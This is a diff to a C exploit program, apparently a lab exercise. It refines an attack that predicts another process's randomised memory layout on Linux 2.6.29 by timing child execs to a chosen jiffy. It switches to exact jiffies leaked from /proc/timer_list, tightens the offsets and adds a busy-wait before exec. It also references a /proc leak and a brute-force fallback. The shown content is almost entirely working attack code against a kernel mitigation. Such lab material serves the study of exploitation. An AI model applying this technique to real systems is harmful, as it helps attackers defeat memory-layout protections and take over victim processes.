@@ -16,14 +16,13 @@
 #define MMAP	  1
 #define EXE	  2
 /*
- * collision: 2 children for each sum offset in -7..+3.  The victim's start
- * (stat, 1/100 s) and our clock (/proc/uptime, 1/100 s) are each known to
- * about a jiffy and a half at HZ 250, a sleeper wakes a tick or two late,
- * and on a loaded host exec itself can take a tick or more, so the sum we
- * reach lies a few below to several above the one aimed at.
+ * collision: 3 children for each sum offset in -3..+3.  Each child execs in
+ * the exact jiffy it aims at (read from /proc/timer_list); what remains
+ * uncertain is the victim's start, which stat gives in 1/100 s: about a
+ * jiffy either way at HZ 250.
  */
-#define POOL	  22
-#define PAGE	  4096ULL
+#define POOL 21
+#define PAGE 4096ULL
 
 static long lab(long op, long a, long b)
 {
@@ -79,7 +78,8 @@ static int find_victim(void)
 			char path[40], buf[64];
 
 			snprintf(path, sizeof(path), "/proc/%d/cmdline", pids[i]);
-			if (read_file(path, buf, sizeof(buf)) == 11 && !memcmp(buf, "lab\0victim", 11))
+			if (read_file(path, buf, sizeof(buf)) == 11 &&
+			    !memcmp(buf, "lab\0victim", 11))
 				return pids[i];
 		}
 		sleep_ms(4);
@@ -173,19 +173,16 @@ static void proc_leak(const char *vpid)
 		brute_force(); /* the leak is closed: nothing better than a guess */
 }
 
-/* Uptime in jiffies, from /proc/uptime's centiseconds. */
-static uint64_t now_jiffies(long hz)
+/* The exact jiffies, from /proc/timer_list (world-readable in 2.6.29). */
+static uint64_t now_jiffies(void)
 {
-	char buf[64], *p = buf;
-	uint64_t cs;
+	char buf[256], *p;
 
-	read_file("/proc/uptime", buf, sizeof(buf));
-	cs = (uint64_t)atol(p) * 100;
-	while (*p && *p != '.')
-		p++;
-	if (*p)
-		cs += (uint64_t)atol(p + 1);
-	return cs * (uint64_t)hz / 100;
+	read_file("/proc/timer_list", buf, sizeof(buf));
+	for (p = buf; *p; p++)
+		if (!strncmp(p, "jiffies: ", 9))
+			return (uint64_t)atol(p + 9);
+	return 0;
 }
 
 /*
@@ -193,13 +190,14 @@ static uint64_t now_jiffies(long hz)
  * jiffies at exec equals the victim's gets the victim's layout.  Children
  * forked before the victim have smaller pids; each waits until jiffies =
  * victim_pid + victim_jiffies - own_pid (+ a small offset covering the
- * centisecond resolution of stat's start time) and then execs.
+ * centisecond resolution of stat's start time) and then execs.  The hz
+ * argument is only needed to turn stat's start time into jiffies.
  */
 static void collision_child(int idx, long hz)
 {
 	char vpid[12], *argv[] = {"lab", "report", 0};
 	int victim = find_victim();
-	long offset = idx % 11 - 7;
+	long offset = idx % 7 - 3;
 	uint64_t start_cs, vj, target, now;
 
 	if (victim < 0)
@@ -208,9 +206,11 @@ static void collision_child(int idx, long hz)
 	start_cs = stat_field(vpid, 22, 0);
 	vj = start_cs * (uint64_t)hz / 100 + (uint64_t)hz / 200;
 	target = (uint64_t)victim + vj - (uint64_t)getpid() + (uint64_t)offset;
-	now = now_jiffies(hz);
-	if (target > now + 1)
-		sleep_ms((unsigned)((target - now - 1) * 1000 / (uint64_t)hz));
+	now = now_jiffies();
+	if (target > now + 2)
+		sleep_ms((unsigned)((target - now - 2) * 1000 / (uint64_t)hz));
+	while (now_jiffies() < target)
+		sched_yield(); /* the last tick or two: exec in the target jiffy */
 	syscall3(__NR_execve, "lab", argv, 0);
 	exit(1);
 }
